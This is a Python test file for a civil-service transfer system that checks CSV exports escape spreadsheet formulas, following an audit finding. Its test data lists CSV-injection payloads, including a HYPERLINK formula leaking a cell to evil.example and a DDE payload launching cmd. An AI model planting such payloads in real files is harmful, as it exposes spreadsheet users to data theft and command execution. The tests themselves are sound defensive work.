"""Finding 14: a CSV export never hands a spreadsheet a formula to run.

A reason typed by an officer, or a position name from an import, that begins with `=`, `+`,
`-` or `@` becomes a formula when the auditor or BKN opens the CSV in a spreadsheet. Such
cells are written behind an apostrophe (text), reversibly (mutasi.csv_cells).
"""

from __future__ import annotations

import csv
import io
from dataclasses import fields

from mutasi.audit.queries import export_chunks
from mutasi.csv_cells import original
from mutasi.log.store import NewEvent
from mutasi.siasn import SiasnRecord, to_csv
from tests.integration.log_scenario import OFFICER, append_events, new_tenant, transfer_stream

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+1+cmd|' /C calc'!A0", "@SUM(1)"]


async def test_the_audit_csv_export_writes_formulas_as_text(pool):
    tenant = new_tenant()
    stream = transfer_stream()
    await append_events(
        pool,
        tenant,
        [
            NewEvent(stream, "transfer.returned", {"step": "verify"}, OFFICER, reason=f)
            for f in FORMULAS
        ],
    )
    text = b"".join([chunk async for chunk in export_chunks(pool, tenant, "csv")]).decode()
    reasons = [row["reason"] for row in csv.DictReader(io.StringIO(text))]
    assert all(r.startswith("'") for r in reasons), reasons
    assert [original(r) for r in reasons] == FORMULAS  # the exact text is still there


def test_the_siasn_csv_writes_formulas_as_text():
    values = {f.name: "x" for f in fields(SiasnRecord)}
    record = SiasnRecord(**(values | {"jabatan_tujuan": FORMULAS[0], "nama": "-2+3"}))
    [row] = list(csv.DictReader(io.StringIO(to_csv([record]))))
    assert row["jabatan_tujuan"] == "'" + FORMULAS[0]
    assert row["nama"] == "'-2+3"
    assert row["nomor_sk"] == "x"
